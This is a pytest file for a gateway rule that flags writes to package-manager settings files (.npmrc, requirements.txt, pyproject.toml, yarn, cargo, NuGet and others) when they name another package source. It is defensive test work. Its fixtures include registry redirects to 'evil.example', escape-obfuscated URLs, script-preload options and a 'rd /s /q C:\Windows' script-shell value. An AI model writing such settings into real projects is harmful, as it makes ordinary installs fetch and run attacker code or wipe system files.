"""A project's own package settings are judged by what they say when they are written (S-RULE-211).

Before, a write of a repository's `.npmrc` with `registry=http://evil.example/` passed (while `npm config set
registry …` was refused and a write of the user's own `pip.ini` asked), and so did a `requirements.txt` with
`--extra-index-url http://…`, a project's `pyproject.toml` `[[tool.uv.index]]`, `uv.toml`, `bunfig.toml`, `.yarnrc`,
`.yarnrc.yml`, `NuGet.Config`, `.cargo\\config.toml`, a virtual environment's `pip.ini`, a `.condarc` and pnpm's
`.pnpmfile.cjs`: the next ordinary `npm install` or `pip install -r requirements.txt` there fetches and runs code
from the address the file names, with nobody asked.
"""

from __future__ import annotations

import json

import pytest

from policy.rules.effects_common import RUNS_LATER
from policy.rules.effects_project_sources import is_project_sources_file, project_sources
from policy.rules.shell.ops import EffectKind
from tests._requirements import requirement
from tests.policy.test_typed import typed_in_console
from tests.policy.verdicts import guarded, ps, verdict

ASK = ("persistence-autostart", "ask")
EVIL = "http://evil.example/simple"
REPO = "C:\\src\\repo\\"


def _write(name: str, content: str) -> tuple[str, str] | None:
    return verdict("FileSystem", mode="write", path=REPO + name, content=content)


DANGEROUS_WRITES = [
    (".npmrc", "registry=http://evil.example/"),
    (".npmrc", 'REGISTRY = "http://evil.example/"'),  # npm's keys are read in any case, quoted values unquoted
    (".npmrc", "@types:registry=http://evil.example/\n//evil.example/:_authToken=x"),  # a scope's registry
    (".npmrc", "node-options=--require C:\\Users\\me\\x.js"),  # code run in every node npm starts
    (".npmrc", "script-shell=C:\\Users\\me\\x.exe"),
    (".yarnrc", 'registry "http://evil.example/"'),
    (".yarnrc", '"@corp:registry" "http://evil.example/"'),
    (".yarnrc", 'yarn-path "C:\\\\Users\\\\me\\\\x.js"'),
    (".yarnrc.yml", "npmRegistryServer: http://evil.example/"),
    (".yarnrc.yml", 'npmRegistryServer: "http\\x3a//evil.example/"'),  # YAML's escape: yarn reads a `:`
    (".yarnrc.yml", "npmScopes:\n  corp:\n    npmRegistryServer: 'http://evil.example'"),
    (".yarnrc.yml", "yarnPath: C:/Users/me/x.cjs"),
    (".yarnrc.yml", "yarnPath: .yarn/releases/../../x.cjs"),  # out of the project's releases again
    ("bunfig.toml", "[install]\nregistry = 'http://evil.example/'"),
    ("bunfig.toml", '[install.scopes]\ncorp = { url = "http://evil.example/" }'),
    ("uv.toml", f"index-url = '{EVIL}'"),
    ("uv.toml", '[[index]]\nurl = "http\\u003a//evil.example/simple"\ndefault = true'),  # TOML's escape
    ("pyproject.toml", f"[project]\nname = 'x'\n[[tool.uv.index]]\nname = 'x'\nurl = '{EVIL}'"),
    ("pyproject.toml", f"tool.uv.index-url = '{EVIL}'"),  # a dotted key at the top
    ("pyproject.toml", f"[tool.uv.pip]\nextra-index-url = ['{EVIL}']"),
    ("pyproject.toml", f"[[tool.poetry.source]]\nname = 'x'\nurl = '{EVIL}'"),
    ("pyproject.toml", f"[[tool.pdm.source]]\nname = 'x'\nurl = '{EVIL}'"),
    ("pyproject.toml", f"\n[[tool.uv.index]]\nurl = '{EVIL}'\n[broken"),  # no TOML: read line by line
    (".venv\\pip.ini", f"[global]\nindex-url = {EVIL}"),
    ("pip.conf", f"[global]\nextra-index-url = {EVIL}"),
    ("requirements.txt", f"--extra-index-url {EVIL}\nrequests"),
    ("requirements.txt", f"requests\n--index-url={EVIL}"),
    ("requirements.txt", f"-i{EVIL}\nrequests"),  # a short option glued to its value
    ("requirements.txt", f"--extra-index={EVIL}"),  # a prefix that names one option
    ("requirements.txt", "--find http://evil.example/wheels"),
    ("requirements-dev.txt", f"-i {EVIL}"),
    ("requirements\\dev.txt", f"-i {EVIL}"),
    ("constraints.txt", f"-f {EVIL}"),
    ("requirements.in", f"--index-url {EVIL}"),
    ("NuGet.Config", "<configuration><packageSources><add key='x' value='http://evil.example/' /></packageSources>"),
    ("nuget.config", "<packageSources><add key='x' value='http&#58;//evil.example/' /></packageSources>"),  # an entity
    (".cargo\\config.toml", '[registries.x]\nindex = "sparse+http://evil.example/index/"'),
    (".cargo\\config.toml", "[source.crates-io]\nreplace-with = 'x'\n[source.x]\nregistry = 'http://evil.example/'"),
    (".cargo\\config", "[source.x]\nregistry = 'http://evil.example/'"),
    (".condarc", "channels: [http://evil.example/]"),
    (".pnpmfile.cjs", "module.exports = { hooks: {} }"),  # code pnpm runs at every install, whatever it says
    (".NPMRC.", "registry=http://evil.example/"),  # any case; Windows drops the trailing dot
]


@requirement("S-RULE-211")
@pytest.mark.parametrize(("name", "content"), DANGEROUS_WRITES)
def test_a_project_setting_that_names_another_source_asks(name: str, content: str) -> None:
    """S-RULE-211: the next ordinary install in that folder fetches from it, or runs what it names."""
    assert _write(name, content) == ASK


@requirement("S-RULE-211")
def test_forward_slashes_and_append_count_the_same() -> None:
    """S-RULE-211: the path's spelling and the write's mode do not matter."""
    assert verdict("FileSystem", mode="write", path="C:/src/repo/.npmrc", content="registry=http://e.example/") == ASK
    args = {"mode": "write", "path": REPO + "requirements.txt", "content": f"-i {EVIL}", "append": True}
    assert verdict("FileSystem", **args) == ASK


@requirement("S-RULE-211")
@pytest.mark.parametrize(
    "command",
    [
        rf"Set-Content {REPO}.npmrc 'registry=http://evil.example/'",
        rf'"registry=http://evil.example/" > {REPO}.npmrc',
        rf"[IO.File]::WriteAllText('{REPO}.npmrc', 'registry=http://evil.example/')",
        rf'cmd /c "echo registry=http://evil.example/> {REPO}.npmrc"',
        rf"Add-Content {REPO}requirements.txt '--index-url {EVIL}'",
        rf'Set-Content {REPO}requirements.txt "requests`n--index-url {EVIL}"',
        "$u = 'http://evil.' + 'example/simple'; Set-Content " + REPO + 'requirements.txt "-i $u"',  # built
        rf"Set-Content {REPO}bunfig.toml \"[install]`nregistry = 'http://evil.example/'\"",
    ],
)
def test_shell_writes_are_read_the_same(command: str) -> None:
    """S-RULE-211: PowerShell and cmd writes are read as the FileSystem tool's are, built text folded."""
    assert ps(command) == ASK


@requirement("S-RULE-211")
@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("FileSystem", {"mode": "copy", "path": "C:\\t\\x", "destination": REPO + ".npmrc"}),
        ("FileSystem", {"mode": "move", "path": "C:\\t\\x.txt", "destination": REPO + "requirements.txt"}),
        ("PowerShell", {"command": rf"Copy-Item C:\t\x {REPO}.npmrc"}),
        ("PowerShell", {"command": rf"Rename-Item {REPO}x.txt requirements.txt"}),
        ("PowerShell", {"command": rf"Set-Content {REPO}uv.toml $x"}),  # text the analyser cannot fold
        ("PowerShell", {"command": rf"Get-Content C:\t\x | Set-Content {REPO}.yarnrc.yml"}),
    ],
)
def test_a_settings_file_put_in_place_unread_asks(tool: str, args: dict[str, object]) -> None:
    """S-RULE-211: what the gateway did not read may name any source."""
    assert verdict(tool, **args) == ASK


@requirement("S-RULE-211")
def test_a_program_setting_is_judged_as_what_it_runs() -> None:
    """S-RULE-211: npm hands every package script to `script-shell`; what it runs is judged now, as S-RULE-186 has
    `npm config set script-shell` read."""
    assert _write(".npmrc", "script-shell=cmd /c rd /s /q C:\\Windows") == ("protected-place-delete", "deny")


@requirement("S-RULE-211")
def test_typed_into_a_console_asks_the_same() -> None:
    """S-RULE-211: the keyboard is a shell."""
    assert typed_in_console(rf"Set-Content {REPO}.npmrc 'registry=http://evil.example/'") == ASK


@requirement("S-RULE-211")
def test_the_reason_names_the_file_and_the_address() -> None:
    """S-RULE-211: the person approving sees where installs would come from."""
    (found,) = project_sources(REPO + "requirements.txt", f"requests\n--extra-index-url {EVIL}")
    assert found.kind is EffectKind.PERSISTENCE
    assert "a requirements file" in found.detail
    assert EVIL in found.detail
    (unread,) = project_sources(REPO + ".npmrc", None, read=False)
    assert "did not read" in unread.detail


@requirement("S-RULE-211")
def test_the_users_own_npmrc_stays_a_credential_store() -> None:
    """S-RULE-211: the worse verdict stands; `~\\.npmrc` holds the user's tokens (S-RULE-155)."""
    args = {"mode": "write", "path": "C:\\Users\\me\\.npmrc", "content": "registry=http://evil.example/"}
    assert verdict("FileSystem", **args) == ("credential-access", "deny")


@requirement("S-RULE-211")
def test_an_absurdly_deep_toml_is_read_line_by_line_not_a_fault() -> None:
    """S-RULE-211: the TOML reader's recursion limit is not a policy fault; the lines are still read."""
    deep = "a = " + "[" * 50_000 + "]" * 50_000 + f"\nindex-url = '{EVIL}'"
    assert _write("uv.toml", deep) == ASK
    assert guarded("FileSystem", mode="write", path=REPO + "uv.toml", content=deep) == ASK


ORDINARY_WRITES = [
    (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true"),
    (".npmrc", "//registry.npmjs.org/:_authToken=${NPM_TOKEN}"),  # an auth line names no source
    (".npmrc", "engine-strict=true\nfund=false"),
    (".yarnrc.yml", "nodeLinker: node-modules\nyarnPath: .yarn/releases/yarn-4.1.0.cjs"),  # `yarn set version`
    (".yarnrc.yml", 'yarnPath: "./.yarn/releases/yarn-4.1.0.cjs"'),
    ("bunfig.toml", "[install]\nexact = true"),
    ("uv.toml", '[[index]]\nurl = "https://pypi.org/simple"'),
    ("pyproject.toml", "[project]\nname = 'x'\n[project.urls]\nHomepage = 'https://github.com/x/y'"),
    ("pyproject.toml", "[tool.uv.sources]\ny = { git = 'https://github.com/x/y' }"),  # one package pinned
    (
        "pyproject.toml",
        "[tool.uv]\ndev-dependencies = ['y @ https://example.com/y.whl']\n[tool.ruff]\nline-length = 120",
    ),
    ("requirements.txt", "requests==2.32.3\nflask>=3"),
    ("requirements.txt", "-i https://pypi.org/simple\nrequests"),
    ("requirements.txt", "-e git+https://github.com/x/y#egg=y\n-r base.txt\n--hash=sha256:abc"),
    ("requirements.txt", "--e http://evil.example/x"),  # an ambiguous prefix pip refuses
    ("NuGet.Config", "<packageSources><add key='nuget.org' value='https://api.nuget.org/v3/index.json' />"),
    (".cargo\\config.toml", "[target.x86_64-pc-windows-msvc]\nlinker = 'rust-lld'"),
    (".cargo\\config.toml", "[source.crates-io]\nreplace-with = 'v'\n[source.v]\ndirectory = 'vendor'"),
    (".condarc", "channels: [conda-forge, defaults]"),
    ("docs\\notes.txt", f"-i {EVIL}"),  # not a requirements file
    ("package-lock.json", json.dumps({"resolved": "http://evil.example/x.tgz"})),  # a lock file is not read
]


@requirement("S-RULE-211")
@pytest.mark.parametrize(("name", "content"), ORDINARY_WRITES)
def test_settings_that_name_no_other_source_stay_ordinary(name: str, content: str) -> None:
    """S-RULE-211: no false alarm on everyday project files."""
    assert _write(name, content) is None


@requirement("S-RULE-211")
@pytest.mark.parametrize(
    ("tool", "args"),
    [
        ("FileSystem", {"mode": "read", "path": REPO + ".npmrc"}),
        ("PowerShell", {"command": rf"Get-Content {REPO}requirements.txt"}),
        ("PowerShell", {"command": rf"Set-Content {REPO}.npmrc 'save-exact=true'"}),
        ("PowerShell", {"command": rf"Select-String -Path {REPO}requirements.txt -Pattern index-url"}),
    ],
)
def test_reading_them_stays_ordinary(tool: str, args: dict[str, object]) -> None:
    """S-RULE-211: reading a settings file changes nothing."""
    assert verdict(tool, **args) is None


@requirement("S-RULE-211")
@pytest.mark.parametrize(
    ("path", "expected"),
    [
        (REPO + ".npmrc", True),
        ('"C:\\src\\repo\\.npmrc"', True),
        (REPO + "x.npmrc", False),
        (REPO + "pyproject.toml.bak", False),
        (REPO + ".cargo\\config.toml", True),
        (REPO + "cargo\\config.toml", False),
        (None, False),
    ],
)
def test_which_files_are_settings(path: str | None, expected: bool) -> None:
    """S-RULE-211: known by name in any folder, any case."""
    assert is_project_sources_file(path) is expected


@requirement("S-RULE-211")
@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("requirements.txt", f"--i {EVIL}"),  # the shortest prefix that names one option
        (".yarnrc.yml", 'npmRegistryServer: "http\\u003a//evil.example/"'),  # YAML's four-digit escape
        (".yarnrc.yml", 'npmRegistryServer: "http\\U0000003a//evil.example/"'),  # and its eight-digit one
        (".yarnrc.yml", 'npmRegistryServer: "\\u0068ttp://evil.example/"'),  # a letter escaped: hex digits, base 16
        (".yarnrc.yml", "yarnPath: .yarn/releases/.."),  # the releases folder's parent
        (".npmrc", '"@corp:registry"="http://evil.example/"'),  # a quoted key, as npm's ini reader takes it
        ("pyproject.toml", f"\n[[tool.uv.index]]\nurl = '{EVIL}'\n[broken"),
    ],
)
def test_more_spellings_are_read_as_their_program_reads_them(name: str, content: str) -> None:
    """S-RULE-211: prefixes, escapes, quoting and fragments, each as the manager reads it."""
    assert _write(name, content) == ASK


@requirement("S-RULE-211")
@pytest.mark.parametrize(
    ("name", "content"),
    [
        (".yarnrc", 'disturl "https://nodejs.org/download/release"'),  # yarn 1 reads only its registry keys
        ("uv.toml", "# mirror: http://evil.example/simple\nnative-tls = true"),  # a TOML comment is no setting
        ("bunfig.toml", "# http://evil.example/\n[install]\nexact = true"),
        (
            "pyproject.toml",
            "[project.urls]\nHomepage = 'https://github.com/x/y'\n[broken",
        ),  # a fragment, no source table
        ("pyproject.toml", "homepage = 'https://github.com/x/y'\n[broken"),  # before any table
        (".npmrc", "//registry.npmjs.org/:registry=http://evil.example/"),  # scoped to an address: no registry key
        (".npmrc", "registryX=http://evil.example/"),  # another key
    ],
)
def test_addresses_outside_the_source_settings_stay_ordinary(name: str, content: str) -> None:
    """S-RULE-211: only what names where packages come from counts, as each manager reads its file."""
    assert _write(name, content) is None


@requirement("S-RULE-211")
def test_a_quoted_program_setting_is_judged_unquoted() -> None:
    """S-RULE-211: npm's ini reader drops the quotes; what runs is the command line inside them."""
    assert _write(".npmrc", 'script-shell="cmd /c rd /s /q C:\\Windows"') == ("protected-place-delete", "deny")


@requirement("S-RULE-211")
def test_the_effects_name_the_file_and_the_setting() -> None:
    """S-RULE-211: pnpm's hook file is its own target; a program setting names its key."""
    (hook,) = project_sources(REPO + ".pnpmfile.cjs", "module.exports = {}")
    assert hook.target == REPO + ".pnpmfile.cjs"
    (yarn,) = project_sources(REPO + ".yarnrc.yml", "yarnPath: C:/t/y.cjs")
    assert "setting yarnPath" in yarn.detail
    assert "code pnpm runs at every install" in hook.detail
    (options,) = project_sources(REPO + ".npmrc", "node-options=--require C:\\t\\x.js")
    assert options.target == REPO + ".npmrc"
    assert RUNS_LATER not in dict(options.extra)  # options, not a command line
    (shell,) = project_sources(REPO + ".npmrc", "script-shell=C:\\t\\x.exe")
    assert dict(shell.extra)[RUNS_LATER] == "C:\\t\\x.exe"
    # Content given but not read as the write's own (a copy's): unread, whatever it says.
    (unread,) = project_sources(REPO + ".npmrc", "registry=https://registry.npmjs.org/", read=False)
    assert "did not read" in unread.detail
